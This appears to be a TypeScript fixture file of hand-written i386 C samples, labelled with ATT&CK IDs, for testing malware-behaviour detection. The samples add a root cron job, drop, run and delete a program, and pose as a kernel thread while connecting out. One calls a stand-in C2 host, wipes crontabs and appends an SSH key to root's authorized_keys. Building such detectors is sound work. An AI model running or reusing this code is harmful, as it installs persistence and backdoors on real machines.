// The same for 32 bits: programs for i386 without a library, which speak to the kernel by its old door (int 0x80), and one
// by the old single call for all that concerns sockets.
import type { Trait } from './trait.ts'

/** Calls of i386 by hand: no compiler for i386 brings a library along everywhere. */
const DOOR = `
static long call(long number, long one, long two, long three) {
  long result;
  __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(one), "c"(two), "d"(three) : "memory");
  return result;
}
enum { EXIT = 1, FORK = 2, WRITE = 4, OPEN = 5, CLOSE = 6, UNLINK = 10, EXECVE = 11, CHMOD = 15, SOCKETCALL = 102, PRCTL = 172 };
`

export const I386: readonly Trait[] = [
  {
    name: 'i386: a cron job, a dropped program that runs, and itself deleted',
    language: 'c32',
    source: `${DOOR}${String.raw`
void _start(void) {
  static const char job[] = "* * * * * root /tmp/i3run\n", program[] = "#!/bin/sh\nid > /tmp/i386-ran\n";
  long file = call(OPEN, (long)"/etc/cron.d/i386", 0101, 0644);
  call(WRITE, file, (long)job, sizeof job - 1);
  call(CLOSE, file, 0, 0);
  file = call(OPEN, (long)"/tmp/i3run", 0101, 0755);
  call(WRITE, file, (long)program, sizeof program - 1);
  call(CLOSE, file, 0, 0);
  call(CHMOD, (long)"/tmp/i3run", 0755, 0);
  call(UNLINK, (long)"/root/sample32", 0, 0);
  if (call(FORK, 0, 0, 0) == 0) {
    static const char *words[] = {"/tmp/i3run", 0};
    call(EXECVE, (long)words[0], (long)words, 0);
  }
  call(EXIT, 5, 0, 0);
}`}`,
    shows: {
      trace_adds_cron_job: ['T1053.003'],
      trace_runs_dropped_program: ['T1204.002'],
      trace_deletes_itself: ['T1070.004'],
    },
    label: 'malicious',
    tells: ['/etc/cron.d/i386', '/tmp/i386-ran'],
    core: true,
  },
  {
    name: 'i386: a connection by the old call for sockets, and the name of a kernel thread',
    language: 'c32',
    source: `${DOOR}${`
void _start(void) {
  static const unsigned char to[16] = {2, 0, 0xbb, 0xe5, 203, 0, 113, 40};
  long made[3] = {2, 1, 0};
  long file = call(SOCKETCALL, 1, (long)made, 0);
  long connect[3] = {file, (long)to, sizeof to};
  call(PRCTL, 15, (long)"kworker/1:1", 0);
  if (call(SOCKETCALL, 3, (long)connect, 0) != 0) call(EXIT, 1, 0, 0);
  call(WRITE, file, (long)"hello from 32 bits", 18);
  call(EXIT, 0, 0, 0);
}`}`,
    shows: {
      trace_speaks_own_protocol: ['T1095', 'T1571'],
      trace_poses_as_system_process: ['T1036.004'],
    },
    label: 'malicious',
    tells: ['203.0.113.40', 'hello from 32 bits'],
    core: true,
  },
  {
    name: "i386 with the system's library: names, a request, a command, memory made executable",
    language: 'c32-libc',
    source: String.raw`
struct hostent { char *name; char **aliases; int type, length; char **addresses; };
struct hostent *gethostbyname(const char *);
int socket(int, int, int), connect(int, const void *, unsigned), system(const char *), mprotect(void *, unsigned, int);
int write(int, const void *, unsigned), read(int, void *, unsigned);
void *mmap(void *, unsigned, int, int, int, int), exit(int);
__attribute__((force_align_arg_pointer)) void _start(void) {
  static const char asked[] = "GET /i386/gate HTTP/1.0\r\nHost: c2-32.example\r\n\r\n";
  char answer[256];
  struct hostent *found = gethostbyname("c2-32.example");
  if (found == 0) exit(1);
  unsigned char to[16] = {2, 0, 0, 80};
  for (int index = 0; index < 4; index++) to[4 + index] = (unsigned char)found->addresses[0][index];
  int made = socket(2, 1, 0);
  if (connect(made, to, sizeof to) != 0) exit(2);
  write(made, asked, sizeof asked - 1);
  read(made, answer, sizeof answer);
  system("crontab -r; echo 'ssh-rsa AAAAexample' >> /root/.ssh/authorized_keys");
  unsigned char *code = mmap(0, 4096, 3, 0x22, -1, 0);
  code[0] = 0xc3;
  mprotect(code, 4096, 5);
  ((void (*)(void))code)();
  exit(6);
}`,
    shows: {
      trace_fetches_further_stage: ['T1105', 'T1071.001'],
      trace_adds_ssh_key: ['T1098.004'],
      trace_makes_memory_executable: ['T1027.002'],
    },
    label: 'suspicious',
    tells: ['http://c2-32.example/i386/gate', 'AAAAexample'],
    core: true,
  },
]
